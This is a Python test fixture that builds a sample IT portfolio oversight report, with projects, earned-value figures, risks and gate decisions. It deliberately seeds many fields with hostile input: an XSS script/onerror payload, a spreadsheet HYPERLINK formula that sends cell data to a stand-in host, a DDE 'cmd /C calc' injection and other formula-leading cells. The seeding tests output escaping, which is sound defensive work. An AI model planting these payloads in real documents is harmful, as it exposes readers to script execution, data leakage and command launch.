"""A hand-made report model with every section filled, including hostile text from "sources"."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

from pmsync.model import BenefitRealised, CioRating, CostLine, GateDecision, OversightFinding, SourceRef
from pmsync.oversight.config import ProjectOversight, oversight_settings
from pmsync.reconcile import oversight as ov
from pmsync.reconcile import results as r
from pmsync.reconcile.oversight_results import OversightMeasures
from pmsync.report import model as m
from pmsync.report.exceptions import group_exceptions
from pmsync.report.front_page import front_page

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
PLUS_CMD = "+cmd|' /C calc'!A0"


def _rating(dim: str, status: str, explanation: str) -> r.RagRating:
    return r.RagRating(dimension=dim, status=status, rule=f"{dim} rule (large tier)", explanation=explanation)  # type: ignore[arg-type]


def _rag(s: str, c: str, sc: str, k: str, o: str) -> r.RagStatuses:
    return r.RagStatuses(
        schedule=_rating("schedule", s, "finish variance +12 working days: red because it is above 10"),
        cost=_rating("cost", c, "CPI 0.91: amber because it is below 0.95 and at least 0.90"),
        scope=_rating("scope", sc, "no scope change since baseline 1"),
        risk=_rating("risk", k, "2 open risks scored 15 or more"),
        overall=_rating("overall", o, "the worst of schedule, cost, scope and risk"),
    )


def erp_measures() -> r.ProjectMeasures:
    ms = [
        r.MilestoneMeasure(
            source=SourceRef(system="msproject", instance="plan", external_id="3"),
            name="Design signed off",
            baseline_finish=date(2026, 6, 30),
            current_finish=date(2026, 6, 30),
            actual_finish=date(2026, 7, 2),
            variance_working_days=2,
            state="missed",
            explanation="finished 2 working days late",
        ),
        r.MilestoneMeasure(
            source=SourceRef(system="msproject", instance="plan", external_id="9"),
            name="Cutover " + XSS,
            baseline_finish=date(2026, 12, 1),
            current_finish=date(2026, 12, 17),
            variance_working_days=12,
            state="at_risk",
            explanation="forecast 12 working days after baseline",
        ),
    ]
    curve = [
        r.EvmPoint(
            period_end=date(2026, mo, 28),
            label=f"2026-{mo:02d}",
            pv=Decimal(100000 * mo),
            ev=Decimal(90000 * mo),
            ac=Decimal(98000 * mo),
        )
        for mo in range(1, 12)
    ] + [r.EvmPoint(period_end=date(2026, 12, 31), label="2026-12", pv=Decimal("1200000"))]
    return r.ProjectMeasures(
        project="ERP",
        name="ERP upgrade",
        program="Modernisation",
        tier="large",
        sponsor="CFO",
        manager="Dana PM",
        currency="USD",
        status_date=date(2026, 11, 30),
        baseline=r.BaselineInfo(
            number=1,
            name="Re-plan",
            system="pmsync",
            instance="capture",
            approved=True,
            approved_by="Board",
            approved_at=datetime(2026, 8, 3, 12, 0, tzinfo=UTC),
            reason="Vendor change",
            change_request="CR-17",
            item_count=50,
        ),
        baseline_history=[
            r.BaselineEvent(
                action="imported", number=0, at=datetime(2026, 1, 5, 9, 0, tzinfo=UTC), reason="Initial plan"
            ),
            r.BaselineEvent(
                action="rebaselined",
                number=1,
                at=datetime(2026, 8, 3, 12, 0, tzinfo=UTC),
                by="Board",
                reason="Vendor change",
                change_request="CR-17",
                replaces=0,
            ),
        ],
        schedule=r.ScheduleMeasures(
            baseline_finish=date(2026, 12, 1),
            current_finish=date(2026, 12, 17),
            finish_variance_working_days=12,
            milestones=ms,
            milestones_missed=1,
            milestones_at_risk=1,
            next_milestone=ms[1],
            bei=0.9,
            bei_tasks_completed=9,
            bei_tasks_due=10,
        ),
        cost=r.CostMeasures(
            budget_at_completion=Decimal("1200000"),
            bac_basis="approved budget",
            actual_to_date=Decimal("692307.69"),
            commitments=Decimal("150000"),
            forecast_at_completion=Decimal("1318681.32"),
            forecast_basis="EVM EAC",
            variance_at_completion=Decimal("-118681.32"),
            by_category=[
                r.CostBreakdownRow(
                    category="Labour",
                    fiscal_year=2027,
                    fiscal_period=5,
                    budget=Decimal("800000"),
                    actual=Decimal("450000.50"),
                    commitment=Decimal("50000"),
                    forecast=Decimal("820000"),
                ),
                r.CostBreakdownRow(
                    category=HYPERLINK,
                    fiscal_year=2027,
                    fiscal_period=5,
                    budget=Decimal("400000"),
                    actual=Decimal("242307.19"),
                    commitment=Decimal("100000"),
                    forecast=Decimal("410000"),
                ),
            ],
        ),
        evm=r.EvmMeasures(
            status_date=date(2026, 11, 30),
            bac=Decimal("1200000"),
            pv=Decimal("700000"),
            ev=Decimal("630000"),
            ac=Decimal("692307.69"),
            sv=Decimal("-70000"),
            cv=Decimal("-62307.69"),
            spi=0.9,
            cpi=0.91,
            eac=Decimal("1318681.32"),
            eac_formula="EAC = BAC / CPI = 1,200,000 / 0.91 = 1,318,681.32",
            etc=Decimal("626373.63"),
            vac=Decimal("-118681.32"),
            tcpi=1.12,
            basis="baseline 1",
            s_curve=curve,
        ),
        health=[
            r.ScheduleHealth(
                project="ERP",
                schedule="msproject:plan",
                status_date=date(2026, 11, 30),
                task_count=50,
                checks=[
                    r.HealthCheck(
                        check="missing_logic",
                        dcma_number=1,
                        title="Missing logic",
                        population=50,
                        flagged=1,
                        metric=2.0,
                        threshold=5.0,
                        threshold_text="at most 5 %",
                        passed=True,
                        explanation="1 of 50 tasks (2 %)",
                    ),
                    r.HealthCheck(
                        check="hard_constraints",
                        dcma_number=5,
                        title="Hard constraints",
                        population=50,
                        flagged=4,
                        metric=8.0,
                        threshold=5.0,
                        threshold_text="at most 5 %",
                        passed=False,
                        explanation="4 of 50 tasks (8 %)",
                        findings=[
                            r.HealthFinding(
                                check="hard_constraints",
                                item=SourceRef(system="msproject", instance="plan", external_id=str(n)),
                                name=f"Task {n}",
                                detail="Must Finish On",
                            )
                            for n in range(20, 27)
                        ],
                    ),
                ],
                passed=1,
                failed=1,
            )
        ],
        exceptions=[
            r.ReconciliationException(
                kind="status_mismatch",
                severity="warning",
                project="ERP",
                records=["jira:cloud:ERP-12", "msproject:plan:12"],
                description="Jira says done, the schedule says 40 %",
            ),
        ],
        rag=_rag("red", "amber", "green", "amber", "red"),
        notes=["scope: 2 items added since baseline 1"],
    )


def web_measures() -> r.ProjectMeasures:
    return r.ProjectMeasures(
        project="WEB",
        name="Public website",
        tier="small",
        currency="USD",
        status_date=date(2026, 11, 30),
        schedule=r.ScheduleMeasures(),
        cost=r.CostMeasures(
            budget_at_completion=Decimal("50000"),
            actual_to_date=Decimal("20000"),
            forecast_at_completion=Decimal("50000"),
        ),
        rag=_rag("green", "green", "green", "green", "green"),
        lifecycle="closing",
        lifecycle_basis="derived: all 12 detail items done, actual finish 2026-11-20",
        percent_complete=100.0,
        percent_complete_basis="detail items done ÷ detail items (by count)",
    )


def erp_oversight(measures: r.ProjectMeasures) -> OversightMeasures:
    """ERP's oversight figures, computed by reconcile's functions from a plan and hand-kept inputs
    (with hostile text from the people who keep them)."""
    status = measures.status_date
    plan = ProjectOversight.model_validate(
        {
            "criticality_override": "high",
            "phase": "Build",
            "gates": [
                {"gate": "Gate 1", "planned": "2026-02-01", "funds_planned": 600000},
                {"gate": "Gate 2 " + XSS, "planned": "2026-10-01", "funds_planned": 600000},
            ],
            "contracts": [
                {"vendor": "Acme " + XSS, "number": "C-1", "po_numbers": ["PO-1"], "value": 500000}
            ],
            "staffing": [{"month": "2026-01-01", "fte": 6}],
            "benefits": [{"benefit": "Hours saved", "planned": 1000, "by": "2026-10-31", "unit": "hours"}],
        }
    )
    ref = SourceRef(system="oversight_file", instance="oversight", external_id="findings:F-1")
    finding = OversightFinding(
        source=ref, project="ERP", recorded_by="IV&V " + PLUS_CMD, title="No load test " + XSS,
        severity="high", corrective_action=HYPERLINK, owner="QA lead", due=date(2026, 11, 15),
        raised_on=date(2026, 9, 30),
    )  # fmt: skip
    decision = GateDecision(
        source=ref.model_copy(update={"external_id": "gate_decisions:G1"}), project="ERP",
        recorded_by="PRB", gate="Gate 1", decision="approved", decided_on=date(2026, 2, 3),
        funds_released=Decimal("600000"),
    )  # fmt: skip
    rating = CioRating(
        source=ref.model_copy(update={"external_id": "cio_ratings:C1"}), project="ERP",
        recorded_by="J. Rivera (CIO)", rating=2, reason="Vendor staffing gaps " + XSS,
        rated_on=date(2026, 11, 20),
    )  # fmt: skip
    paid = CostLine(
        source=SourceRef(system="finance_file", instance="finance", external_id="INV-9"), project="ERP",
        kind="actual", amount=Decimal("470000"), po_number="PO-1", posting_date=date(2026, 11, 3),
    )  # fmt: skip
    realised = BenefitRealised(
        source=ref.model_copy(update={"external_id": "benefits_realised:B1"}), project="ERP",
        recorded_by="Owner", benefit="Hours saved", value=Decimal("800"), measured_on=date(2026, 10, 31),
    )  # fmt: skip
    settings = oversight_settings({"preset": "california"})
    gates, current, nxt, released = ov.gates(plan, [decision], status)
    cio = ov.cio_rating([rating], settings, status)
    benefits = ov.benefits(plan, [realised], status)
    triggers = ov.triggers(settings.triggers, measures, benefits)
    finding_rows = ov.findings([finding], status)
    tripped = [t for t in triggers if t.tripped]
    return OversightMeasures(
        project="ERP",
        status_date=status,
        criticality=ov.criticality(plan, settings.criticality),
        phase=plan.phase,
        current_gate=current,
        next_gate=nxt,
        gates=gates,
        funds_released=released,
        cio=cio,
        computed_overall=measures.rag.overall,
        effective_overall=ov.effective_overall(measures.rag.overall, cio),
        findings=finding_rows,
        open_findings=1,
        open_high_findings=1,
        overdue_findings=1,
        contracts=ov.contract_burn(plan, [paid], status, 90),
        staffing=ov.staffing(plan, [], status),
        benefits=benefits,
        triggers=triggers,
        reapproval_required=bool(tripped),
        reapproval_reasons=[f"{t.label}: {t.explanation}" for t in tripped],
        decisions_needed=["Gate 2 " + XSS + ": planned 2026-10-01, no decision recorded"],
        preset=settings.preset,
        preset_source=settings.source,
    )


def sample_report() -> m.Report:
    as_of = datetime(2026, 11, 30, 23, 59, 59, tzinfo=UTC)
    erp = m.ProjectSection(
        key="ERP",
        name="ERP upgrade",
        measures=erp_measures(),
        trend="worsening",
        summary=m.ExecutiveSummary(
            narrative="Cutover slipped two weeks.\n\nVendor " + XSS, narrative_source="narrative_file erp.md"
        ),
        risks=[
            m.RiskRow(
                title="Data migration " + XSS,
                ref="jira:cloud:RSK-1",
                owner=PLUS_CMD,
                status="Open",
                probability=0.6,
                impact=5,
                score=20,
                due=date(2026, 12, 10),
                mitigation="-dry run",
            ),
        ],
        issues=[
            m.IssueRow(
                title="@SUM(1+1)*cmd",
                ref="jira:cloud:ISS-2",
                owner="Lee",
                priority="High",
                due=date(2026, 12, 3),
            )
        ],
        decisions=[
            m.DecisionRow(
                title="Go with vendor B",
                ref="file:raid:D1",
                decided_by="Board",
                decided_on=date(2026, 9, 1),
                status="Approved",
            )
        ],
        actions=[
            m.ActionRow(
                title="\tTab-led action",
                ref="file:raid:A1",
                owner="Kim",
                due=date(2026, 11, 20),
                status="Open",
                overdue=True,
            )
        ],
        freshness=[
            m.SourceFreshness(
                source="jira-cloud",
                system="jira",
                last_sync=datetime(2026, 11, 30, 6, 0, tzinfo=UTC),
                stale=False,
            ),
            m.SourceFreshness(
                source="finance",
                system="finance_file",
                last_sync=datetime(2026, 11, 20, 6, 0, tzinfo=UTC),
                stale=True,
                note="last synced 10 days before the report",
            ),
        ],
        exception_groups=group_exceptions(erp_measures().exceptions),
        oversight=erp_oversight(erp_measures()),
        changes=[
            m.Change(
                project="ERP",
                kind="milestone_slipped",
                text="Cutover slipped 12 working days",
                before="2026-12-01",
                after="2026-12-17",
            ),
            m.Change(
                project="ERP",
                kind="restatement",
                text="Actuals for 2026-10 restated since the last report: they fell by USD 49,856.28",
                before="49856.28",
                after="0.00",
                amount=Decimal("-49856.28"),
                period="2026-10",
                records=["finance_file:ledger:INV-1 " + XSS],
            ),
        ],
    )
    web = m.ProjectSection(key="WEB", name="Public website", measures=web_measures(), trend="unchanged")
    em, wm = erp.measures, web.measures
    rows = [
        m.PortfolioRow(
            key="ERP",
            name="ERP upgrade",
            program="Modernisation",
            tier="large",
            sponsor="CFO",
            manager="Dana PM",
            schedule=em.rag.schedule,
            cost=em.rag.cost,
            scope=em.rag.scope,
            risk=em.rag.risk,
            overall=em.rag.overall,
            previous_overall="amber",
            trend="worsening",
            budget=Decimal("1200000"),
            actual=Decimal("692307.69"),
            forecast=Decimal("1318681.32"),
            next_milestone=m.MilestoneRef(
                name="Cutover " + XSS, date=date(2026, 12, 17), baseline_date=date(2026, 12, 1)
            ),
            needs_attention=True,
            cio_rating=2,
            effective_overall="red",
            criticality="high",
            current_gate="Gate 1",
            reapproval_required=True,
            open_findings=1,
        ),
        m.PortfolioRow(
            key="WEB",
            name="Public website",
            tier="small",
            schedule=wm.rag.schedule,
            cost=wm.rag.cost,
            scope=wm.rag.scope,
            risk=wm.rag.risk,
            overall=wm.rag.overall,
            previous_overall="green",
            trend="unchanged",
            budget=Decimal("50000"),
            actual=Decimal("20000"),
            forecast=Decimal("50000"),
            lifecycle="closing",
            percent_complete=100.0,
            percent_complete_basis="detail items done ÷ detail items (by count)",
        ),
    ]
    return m.Report(
        meta=m.ReportMeta(
            title="IT portfolio oversight report",
            portfolio="Agency portfolio",
            period="2026-11",
            period_start=date(2026, 11, 1),
            period_end=date(2026, 11, 30),
            status_date=date(2026, 11, 30),
            previous_period="2026-10",
            previous_as_of=datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC),
            scope="portfolio",
            projects=["ERP", "WEB"],
            currency="USD",
            generated_at=datetime(2026, 11, 30, 6, 0, tzinfo=UTC),
            store=m.StoreState(
                as_of=as_of,
                data_through=datetime(2026, 11, 30, 6, 0, tzinfo=UTC),
                last_sync_run="42",
            ),
            pmsync_version="0.1.0",
            stale_after_hours=72,
            stale_sources=["finance"],
        ),
        portfolio=rows,
        totals=m.PortfolioTotals(
            projects=2,
            budget=Decimal("1250000"),
            actual=Decimal("712307.69"),
            forecast=Decimal("1368681.32"),
            by_overall={"red": 1, "amber": 0, "green": 1, "grey": 0},
        ),
        projects=[erp, web],
        front_page=front_page([erp, web], oversight_settings({"preset": "california"})),
        changes=list(erp.changes),
        appendix=m.Appendix(
            sources=[
                m.SourceEntry(
                    name="jira-cloud",
                    type="jira",
                    last_successful_sync=datetime(2026, 11, 30, 6, 0, tzinfo=UTC),
                ),
                m.SourceEntry(name="finance", type="finance_file"),
            ],
            sync_runs=[
                m.SyncRunEntry(
                    run="42",
                    source="jira-cloud",
                    started_at=datetime(2026, 11, 30, 5, 59, tzinfo=UTC),
                    finished_at=datetime(2026, 11, 30, 6, 0, tzinfo=UTC),
                    status="succeeded",
                    records=80,
                )
            ],
            baselines=[
                m.BaselineUsed(
                    project="ERP",
                    number=1,
                    source="pmsync:capture",
                    approved_at=datetime(2026, 8, 3, 12, 0, tzinfo=UTC),
                ),
                m.BaselineUsed(project="WEB"),
            ],
        ),
    )
